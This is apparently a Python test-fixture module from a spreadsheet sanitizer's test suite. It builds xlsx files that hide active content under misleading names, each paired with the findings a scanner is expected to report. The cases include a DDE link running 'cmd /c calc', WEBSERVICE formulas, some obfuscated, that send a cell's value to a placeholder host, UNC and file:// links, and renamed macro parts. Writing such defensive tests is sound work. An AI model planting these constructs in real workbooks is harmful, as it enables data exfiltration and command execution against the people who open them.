"""Returns with something in them that acts by itself, under names that say nothing: what is found, what goes back."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from tests.robustness.book import SHEET, Parts, pack, parts

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MS = "http://schemas.microsoft.com/office"
_BOOK, _TYPES, _ROOT = "xl/workbook.xml", "[Content_Types].xml", ""
_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500


@dataclass(frozen=True, slots=True)
class Acting:
    """A return: its findings; the words or addresses no marked copy may hold; whether it can be marked at all."""

    name: str
    data: bytes
    codes: tuple[str, ...]
    bad: tuple[bytes, ...]
    marked: bool = True


def _rels(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels".lstrip("/")


def relate(content: Parts, part: str, kind: str, target: str, external: bool = False, ident: str = "rId770") -> Parts:
    mode = ' TargetMode="External"' if external else ""
    item = f'<Relationship Id="{ident}" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    before = content.get(_rels(part), empty)
    if before.rstrip().endswith(b"/>") and b"</Relationships>" not in before:
        before = empty
    return {**content, _rels(part): before.replace(b"</Relationships>", item)}


def typed(content: Parts, part: str, kind: str) -> Parts:
    item = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'.encode()
    return {**content, _TYPES: content[_TYPES].replace(b"</Types>", item)}


def put(content: Parts, part: str, old: bytes, new: bytes) -> Parts:
    assert old in content[part], f"nothing to change in {part}"
    return {**content, part: content[part].replace(old, new, 1)}


def formula(content: Parts, text: str, attributes: str = "") -> Parts:
    """Beside the table, where it disturbs nothing: the last row gets one more cell."""
    cell = f'<c r="Z3"{attributes}><f>{text}</f><v>3</v></c></row>'.encode()
    start = content[SHEET].index(b'<row r="3"')
    end = content[SHEET].index(b"</row>", start)
    return {**content, SHEET: content[SHEET][:end] + cell + content[SHEET][end + len(b"</row>") :]}


def linked_book(content: Parts, inner: bytes) -> Parts:
    content = relate(content, _BOOK, f"{_OFFICE}/externalLink", "strange/x9.xml")
    content = typed(content, "xl/strange/x9.xml", f"{_MAIN}.externalLink+xml")
    head = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    content["xl/strange/x9.xml"] = head + f'xmlns:r="{_OFFICE}">'.encode() + inner + b"</externalLink>"
    names = (
        f'<externalReferences><externalReference xmlns:r="{_OFFICE}" r:id="rId770"/></externalReferences><definedNames>'
    )
    return put(content, _BOOK, b"<definedNames>", names.encode())


def hyperlink(content: Parts, target: str, kept: str = "") -> Parts:
    content = relate(content, SHEET, f"{_OFFICE}/hyperlink", target, external=True)
    links = f'<hyperlink xmlns:r="{_OFFICE}" ref="B2" r:id="rId770"/>'
    if kept:
        content = relate(content, SHEET, f"{_OFFICE}/hyperlink", kept, external=True, ident="rId771")
        links += f'<hyperlink xmlns:r="{_OFFICE}" ref="B3" r:id="rId771"/>'
    return put(content, SHEET, b"<pageMargins", f"<hyperlinks>{links}</hyperlinks><pageMargins".encode())


def picture(content: Parts) -> Parts:
    """A drawing whose picture lies on a server."""
    content = relate(content, SHEET, f"{_OFFICE}/drawing", "../odd/d1.xml")
    content = typed(content, "xl/odd/d1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml")
    draw = "http://schemas.openxmlformats.org/drawingml/2006"
    content["xl/odd/d1.xml"] = (
        f'<xdr:wsDr xmlns:xdr="{draw}/spreadsheetDrawing" xmlns:a="{draw}/main" xmlns:r="{_OFFICE}"><xdr:absoluteAnchor>'
        '<xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="图"/><xdr:cNvPicPr/>'
        '</xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId770"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>'
    ).encode()
    content = relate(content, "xl/odd/d1.xml", f"{_OFFICE}/image", "http://192.0.2.1/a.png", external=True)
    return put(content, SHEET, b"</worksheet>", f'<drawing xmlns:r="{_OFFICE}" r:id="rId770"/></worksheet>'.encode())


def acting() -> Iterator[Acting]:
    """Every kind once, none under its usual name."""
    macro = relate(parts(), _BOOK, f"{_MS}/2006/relationships/vbaProject", "odd/data1.dat")
    macro = typed(macro, "xl/odd/data1.dat", "application/vnd.ms-office.vbaProject")
    yield Acting("改名的宏", pack({**macro, "xl/odd/data1.dat": OLE}), ("GF18 !",), (b"vbaProject", OLE[:8]))
    hidden = typed(parts(), "xl/odd/data2.dat", "application/vnd.ms-office.vbaProject")
    yield Acting("没有关系的宏", pack({**hidden, "xl/odd/data2.dat": OLE}), ("GF18 !",), (b"vbaProject", OLE[:8]))
    ribbon = relate(parts(), _ROOT, f"{_MS}/2007/relationships/ui/extensibility", "odd/r.xml")
    ribbon["odd/r.xml"] = b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>'
    yield Acting("自定义功能区", pack(ribbon), ("GF18 !",), (b"customUI", b"extensibility"))
    panes = relate(parts(), _ROOT, f"{_MS}/2011/relationships/webextensiontaskpanes", "odd/t.xml")
    yield Acting("网页加载项", pack({**panes, "odd/t.xml": b"<taskpanes/>"}), ("GF18 !",), (b"taskpanes",))
    source = relate(parts(), _BOOK, f"{_OFFICE}/connections", "odd/c.xml")
    source["xl/odd/c.xml"] = (
        b'<connections><connection id="1"><webPr url="http://192.0.2.1"/></connection></connections>'
    )
    yield Acting("改名的数据连接", pack(source), ("GF18 !",), (b"192.0.2.1",))
    book = linked_book(parts(), b'<externalBook r:id="rId1"/>')
    book = relate(book, "xl/strange/x9.xml", f"{_OFFICE}/externalLinkPath", "file:///\\\\srv\\a.xlsx", True, "rId1")
    book = formula(book, "[1]Sheet1!A1*2")
    yield Acting("外部链接和引用它的公式", pack(book), ("GF17 !",), (b"srv", b"[1]", b"externalReference"))
    dde = formula(linked_book(parts(), b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "[1]!x")
    yield Acting("DDE", pack(dde), ("GF18 !",), (b"ddeLink", b"/c calc", b"[1]"))
    web = formula(parts(), '_xlfn.webservice("http://192.0.2.1/?"&amp;C4)', ' cm="1"')
    yield Acting("WEBSERVICE", pack(web), ("GF18 !",), (b"192.0.2.1", b"webservice"))
    coded = formula(parts(), 'WEB&#83;ERVICE("http://192.0.2.1/")')
    yield Acting("拆开写的 WEBSERVICE", pack(coded), ("GF18 !",), (b"192.0.2.1",))
    split = formula(parts(), 'WEB<!-- -->SERVICE("http://192.0.2.1/")')
    yield Acting("注释隔开的 WEBSERVICE", pack(split), ("GF18 !",), (b"192.0.2.1",))
    image = formula(parts(), '_xlfn.IMAGE("http://192.0.2.1/a.png")')
    yield Acting("IMAGE", pack(image), ("GF18 !",), (b"192.0.2.1",))
    jump = formula(parts(), 'HYPERLINK("\\\\192.0.2.1\\x","点我")')
    yield Acting("HYPERLINK 到共享文件夹", pack(jump), ("GF18 !",), (b"192.0.2.1",))
    yield Acting("图片在别处", pack(picture(parts())), ("GF18 !",), (b"192.0.2.1", b"r:link"))
    unc = hyperlink(parts(), "\\\\192.0.2.1\\share", "https://www.mof.gov.cn/")
    yield Acting("链接到共享文件夹", pack(unc), ("GF18 !",), (b"192.0.2.1",))
    yield Acting("链接到本机文件", pack(hyperlink(parts(), "file:///C:/x.hta")), ("GF18 !",), (b"x.hta",))
    yield Acting("链接到网页和邮箱", pack(hyperlink(parts(), "mailto:a@b.cn", "https://www.mof.gov.cn/")), (), ())
    named = put(
        parts(),
        _BOOK,
        b"<definedNames>",
        b'<definedNames><definedName name="zz">WEBSERVICE("http://192.0.2.1")</definedName>',
    )
    yield Acting("名称里的公式", pack(formula(named, "zz&amp;1")), ("GF17 !", "GF18 !"), (b"192.0.2.1", b"zz&amp;1"))
    shared = formula(parts(), 'WEBSERVICE("http://192.0.2.1/")', "")
    shared = put(shared, SHEET, b"<f>WEBSERVICE", b'<f t="shared" ref="Z3:AA3" si="7777">WEBSERVICE')
    shared = put(
        shared, SHEET, b"<v>3</v></c></row>", b'<v>3</v></c><c r="AA3"><f t="shared" si="7777"/><v>4</v></c></row>'
    )
    yield Acting("共享公式", pack(shared), ("GF18 !",), (b"192.0.2.1", b'r="AA3"><f'))
    sheet = relate(parts(), _BOOK, f"{_MS}/2006/relationships/xlMacrosheet", "odd/m.xml")
    yield Acting("改名的宏表", pack({**sheet, "xl/odd/m.xml": b"<macrosheet/>"}), ("GF18 !",), (), marked=False)
    ole = relate(parts(), SHEET, f"{_OFFICE}/oleObject", "../odd/o.dat")
    yield Acting("改名的嵌入文件", pack({**ole, "xl/odd/o.dat": OLE}), ("GF18 !",), (), marked=False)
    rule = '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="99"><formula>WEBSERVICE("http://192.0.2.1")</formula></cfRule></conditionalFormatting>'
    rules = put(parts(), SHEET, b"<dataValidations", rule.encode() + b"<dataValidations")
    yield Acting("条件格式里的公式", pack(rules), ("GF18 !",), (), marked=False)
